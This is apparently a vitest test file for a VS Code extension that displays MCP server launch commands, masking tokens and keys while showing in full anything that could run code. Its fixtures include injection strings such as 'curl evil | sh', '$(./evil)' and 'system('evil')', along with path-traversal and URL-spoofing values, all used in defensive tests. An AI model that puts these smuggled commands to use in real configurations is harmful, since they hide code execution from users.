import { describe, expect, it } from "vitest";
import {
  launchDocument,
  launchLine,
  namesServed,
  secretsServed,
  visible,
  word,
} from "../../../src/extension/mcp/launchText";
import type { ShownLaunch, ShownVariable } from "../../../src/extension/mcp/shownLaunch";

const launch: ShownLaunch = {
  server: "github",
  path: "/w/.vscode/mcp.json",
  command: "npx",
  args: ["-y", "@scope/server"],
  cwd: undefined,
  variables: [],
  served: [],
  inputs: [],
};
const shown = (name: string, value: string | null): ShownVariable => ({ name, value, kind: "shown" });
const line = (change: Partial<ShownLaunch>): string => launchLine({ ...launch, ...change });

describe("word", () => {
  it.each([
    ["npx", "npx"],
    ["@scope/server@1.2.3", "@scope/server@1.2.3"],
    ["--a=b,c:d", "--a=b,c:d"],
    ["", '""'],
    ["npx -y server", '"npx -y server"'],
    ['a"b\\c', String.raw`"a\"b\\c"`],
    ["${input:x}", '"${input:x}"'],
  ])("writes %j as %s", (text, expected) => {
    expect(word(text)).toBe(expected);
  });
});

describe("visible", () => {
  it.each([
    ["a b", "a b"],
    ["a   b", String.raw`a \u{20}\u{20}b`],
    ["a\u202eb", String.raw`a\u{202e}b`],
    ["a\nb\u0000", String.raw`a\u{a}b\u{0}`],
    ["a\u00a0b\u200b", String.raw`a\u{a0}b\u{200b}`],
    ["a\u3164b\u115f\uffa0", String.raw`a\u{3164}b\u{115f}\u{ffa0}`],
    ["a\u2800b", String.raw`a\u{2800}b`],
    ["a\ufe0fb\u034f\u{e0101}", String.raw`a\u{fe0f}b\u{34f}\u{e0101}`],
    ["Grüße 你好", "Grüße 你好"],
  ])("writes %j as %s", (text, expected) => {
    expect(visible(text)).toBe(expected);
  });
});

describe("launchLine", () => {
  it("reads as a shell would run it", () => {
    const variables = [shown("BASE_URL", "https://api.example"), shown("HOME", null)];
    expect(line({ variables, cwd: "/w/my app" })).toBe(
      'BASE_URL=https://api.example HOME (taken out) npx -y @scope/server in "/w/my app"',
    );
  });

  it("is not the same for a program whose name holds the arguments", () => {
    expect(line({ command: "npx -y @scope/server", args: [] })).toBe('"npx -y @scope/server"');
  });

  it("is not the same for a variable whose name holds a command", () => {
    expect(line({ variables: [shown("A=1 npx good in /w B", "x")] })).toBe(
      '"A=1 npx good in /w B"=x npx -y @scope/server',
    );
  });

  it.each([
    ["GITHUB_TOKEN=ghp_made-up", '"GITHUB_TOKEN=ghp_•••"'],
    ["-eGITHUB_PERSONAL_ACCESS_TOKEN=ghp_made-up", '"-eGITHUB_PERSONAL_ACCESS_TOKEN=ghp_•••"'],
    ["--env=STRIPE_KEY=sk_lmade-up", '"--env=STRIPE_KEY=sk_l•••"'],
    ["-DDATABASE_URL=abcdmade-up", '"-DDATABASE_URL=abcd•••"'],
    ["DATABASE_URL=postgres://u:made-up@h/d?a=1&b=2", '"DATABASE_URL=postgres://u:•••@h/d?a=1&b=2"'],
    ["API_KEY=${input:key}", '"API_KEY=${input:key}"'],
    ["API_KEY=abcd", "API_KEY=abcd"],
    // What is no secret's name decides what runs.
    ["--env=NODE_OPTIONS=--import=x", "--env=NODE_OPTIONS=--import=x"],
    ["REGION=eu-central-1", "REGION=eu-central-1"],
    ["KEY=eu-central-1", "KEY=eu-central-1"],
  ])("shows of an assignment among the arguments %s no secret: %s", (argument, expected) => {
    expect(line({ args: ["-e", argument] })).toBe(`npx -e ${expected}`);
  });

  it.each([
    ["Authorization: Bearer a1b2c3d4-made-up", '"Authorization: Bearer a1b2•••"'],
    ["--header=Authorization: Basic bWFk/ZS11cA==", '"--header=Authorization: Basic bWFk•••"'],
    ["-HX-Api-Key:made-up-key", '"-HX-Api-Key:made•••"'],
    ["https://host/mcp?a=1&api_key=a1b2c3d4-made-up&b=2", '"https://host/mcp?a=1&api_key=a1b2•••&b=2"'],
    ["https://host/mcp?token=a1b2c3d4-made-up#part", '"https://host/mcp?token=a1b2•••#part"'],
    ["https://host/mcp?code=a1b2c3d4-made-up", '"https://host/mcp?code=a1b2•••"'],
    ["https://a1b2c3d4-made-up@host/mcp", '"https://a1b2•••@host/mcp"'],
    ["https://ann:made@up@host/mcp", '"https://ann:•••@host/mcp"'],
    ['{"apiKey":"a1b2c3d4-made-up"}', String.raw`"{\"apiKey\":\"a1b2•••\"}"`],
    ['--config=[{"token":"a1b2c3d4-made-up"}]', String.raw`"--config=[{\"token\":\"a1b2•••\"}]"`],
    ["Authorization: abcd", '"Authorization: abcd"'],
    ["Authorization: Bearer ${TOKEN}", '"Authorization: Bearer ${TOKEN}"'],
    ["Accept: application/json", '"Accept: application/json"'],
    ["--page=https://host/?sort=made-up", '"--page=https://host/?sort=made-up"'],
  ])("shows of a header, an address or JSON %s no secret: %s", (argument, expected) => {
    expect(line({ args: ["--header", argument] })).toBe(`npx --header ${expected}`);
  });

  it.each([
    ["--api-key", "a1b2c3d4-made-up", '"a1b2•••"'],
    ["-token", "ghp_16C7e42F292c6912", '"ghp_•••"'],
    ["--auth", "Bearer a1b2c3d4-made-up", '"Bearer a1b2•••"'],
    ["--secret", "QWERTYuiopASDFGHjklZ1", '"QWER•••"'],
    ["--token", "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw", '"1234•••"'],
    // Any of these could be what runs: the option may take no value.
    ["--api-key", "evil-package", "evil-package"],
    ["--api-key", "evil-server2", "evil-server2"],
    ["--secret", "QWERTYuiopASDFGHjklZX", "QWERTYuiopASDFGHjklZX"],
    ["--key", "oauth2server.js", "oauth2server.js"],
    ["--key", "in", '"in"'],
    ["-e", "-Ikey=abcd/../../evil", "-Ikey=abcd/../../evil"],
    ["--token", "a1b2c3d4/made-up", "a1b2c3d4/made-up"],
    ["--token", "a1b2c3d", "a1b2c3d"],
    ["-eGITHUB_TOKEN", "a1b2c3d4-image", "a1b2c3d4-image"],
    ["-Xtoken", "a1b2c3d4.py", "a1b2c3d4.py"],
  ])("hides what an option for a key is given where it looks like one: %s %s", (option, given, expected) => {
    expect(line({ args: [option, given] })).toBe(`npx ${option} ${expected}`);
  });

  it.each(["https://host/mcp?api_key=a1b2c3d4-made-up", '{"Authorization":"Bearer a1b2c3d4-made-up"}'])(
    "shows no secret in a variable either: %s",
    (value) => {
      const expected = word(value.replace("c3d4-made-up", "•••"));
      expect(line({ variables: [shown("EXTRA", value)] })).toContain(expected);
    },
  );

  it.each([
    "token:/w/evil.js",
    "--require=token:/w/evil.js",
    "/w/?key=evil.js",
    "https://host&node /w/?key=evil.js",
    "https://host?token=a1b2c3d4/../../evil.js",
    "https://host?key=evil",
    "https://evil.example:443?@host/mcp",
    "https://evil.example:443#@host/mcp",
    "0?1://-1?2:do+evil,@x",
    "A_TOKEN=~do+evil",
    "A_TOKEN=%x!./evil!",
    "docker://evil@sha256:a1b2c3d4e5",
    "x://evil@/main.js",
    'require({"key":"/w/evil.js"}.key)',
    '{"key":"/w/evil.js"}',
    "A_TOKEN=%x[./evil.sh]",
  ])("shows whole what could run, and only looks like a header, an address or JSON: %s", (text) => {
    for (const before of ["-c", "-H", "--header", "-e"])
      expect(line({ args: [before, text] })).toBe(`npx ${before} ${word(text)}`);
    expect(line({ args: [], variables: [shown("NODE_OPTIONS", text)] })).toBe(
      `NODE_OPTIONS=${word(text)} npx`,
    );
  });

  it.each(["npm_config_registry", "NPM_CONFIG_HTTPS_PROXY"])("shows no login of an address in %s", (name) => {
    const variables = [shown(name, "https://ann:made-up@host/path")];
    expect(line({ args: [], variables })).toBe(`${name}="https://ann:•••@host/path" npx`);
  });

  it.each(["/usr/bin://opt:.:x@y:/bin", "https://x:y@z"])("shows whole what loads code: %s", (value) => {
    for (const name of ["PATH", "BASH_ENV", "LD_PRELOAD"])
      expect(line({ args: [], variables: [shown(name, value)] })).toBe(`${name}=${word(value)} npx`);
  });

  it.each(["-Htoken:", "--header=key:", "-a=x://h?key=", '{"key":"', "://a:", "?key=a&"])(
    "throws nothing however often a pattern begins anew: %s",
    (part) => {
      const text = part.repeat(100_000 / part.length);
      expect(line({ args: ["-c", text, "--header", text, "--token", text] })).toContain("npx");
    },
  );

  it.each([
    ["Authorization: made-up;curl evil | sh"],
    ["Authorization: sh -c evil"],
    ["-Htoken:$(./evil)"],
    ["http://host?token=$(./evil)"],
    ["A_TOKEN=1;curl evil | sh"],
    ["A_TOKEN=1&./evil.sh"],
    ["A_TOKEN=$(./evil)"],
    ["A_TOKEN=`./evil`"],
    ["--api-key=a$IFS;evil"],
    ["-etoken=system('evil')"],
  ])("shows what a shell or an interpreter could run, whatever it is called: %s", (argument) => {
    for (const option of ["-c", "-H"]) expect(line({ args: [option, argument] })).toContain(word(argument));
    const [, value = ""] = /=(.*)$/.exec(argument) ?? [];
    expect(line({ command: "bash", args: ["-secret", value] })).toBe(`bash -secret ${word(value)}`);
  });

  it("shows no secret, and the beginning alone of what an option for a key is given", () => {
    const variables: readonly ShownVariable[] = [
      { name: "API_KEY", value: "made-up-1", kind: "secret" },
      { name: "CREDS", value: "made-up-2", kind: "hidden" },
      shown("PROXY", "http://user:made-up-3@host"),
    ];
    const args = [
      "--api-key",
      "abcd1made2up-4",
      "--token=abcdmade-up-5",
      "--key",
      "--next",
      "--secret=${input:s}",
    ];
    const text = line({ variables, args });
    expect(text).not.toContain("made-up");
    expect(text).toBe(
      'CREDS=••• PROXY="http://user:•••@host" npx --api-key "abcd•••" "--token=abcd•••" --key --next "--secret=${input:s}"',
    );
  });
});

describe("what it is served", () => {
  const served = (count: number) =>
    Array.from({ length: count }, (_, index) => ({ name: `K${index}`, reference: `local:K${index}` }));

  it("is named, or counted", () => {
    expect(namesServed([])).toBe("no secret");
    expect(namesServed(served(2))).toBe("K0 and K1 of your vault");
    expect([0, 1, 2].map((count) => secretsServed(served(count)))).toEqual([
      "no secret",
      "a secret of your vault",
      "2 secrets of your vault",
    ]);
  });

  it("says where a secret lies that does not lie under its own name", () => {
    expect(namesServed([{ name: "A_KEY", reference: "local:STRIPE_KEY" }])).toBe(
      "A_KEY (local:STRIPE_KEY) of your vault",
    );
    expect(namesServed([{ name: "A_KEY", reference: "vault:secret/a#b" }])).toBe(
      "A_KEY (vault:secret/a#b) of your vault",
    );
  });

  it("cannot be written so that it ends the sentence", () => {
    const reference = "vault:a/b) of your vault? It runs: true";
    expect(namesServed([{ name: "A B", reference }])).toBe(
      '"A B" ("vault:a/b) of your vault? It runs: true") of your vault',
    );
  });
});

describe("launchDocument", () => {
  it("breaks what is longer than a screen is wide, and further in than anything begins", () => {
    const args = ["x".repeat(100), `${"x".repeat(100)}\u{1f600}`, `${"x".repeat(250)}`];
    expect(launchDocument({ ...launch, args })).toContain(
      `With the arguments\n  ${"x".repeat(100)}\n  "${"x".repeat(99)}\n      x\u{1f600}"\n  ${"x".repeat(100)}\n      ${"x".repeat(100)}\n      ${"x".repeat(50)}\n`,
    );
    const inputs = [
      { id: "      a", description: "", preset: undefined, isPassword: false, options: undefined },
    ];
    expect(launchDocument({ ...launch, inputs })).toContain(
      String.raw`Asks you for${"\n"}  " \u{20}\u{20}\u{20}\u{20}\u{20}a"`,
    );
  });

  it("has a thing a line", () => {
    const text = launchDocument({
      ...launch,
      cwd: "/w",
      variables: [shown("REGION", "eu"), { name: "API_KEY", value: "made-up", kind: "secret" }],
      served: [{ name: "API_KEY", reference: "vault:secret/x#y" }],
      inputs: [
        {
          id: "org",
          description: "The organisation",
          preset: "acme",
          isPassword: false,
          options: [{ label: "Acme", value: "acme" }],
        },
      ],
    });
    expect(text).toBe(`The MCP server "github"

Is defined in
  /w/.vscode/mcp.json

Runs
  npx

With the arguments
  -y
  @scope/server

In the folder
  /w

Sets the variables
  REGION=eu
  API_KEY=•••

Asks you for
  org: The organisation, one of acme, by default acme

Is served from your vault
  API_KEY from vault:secret/x#y
`);
  });
});
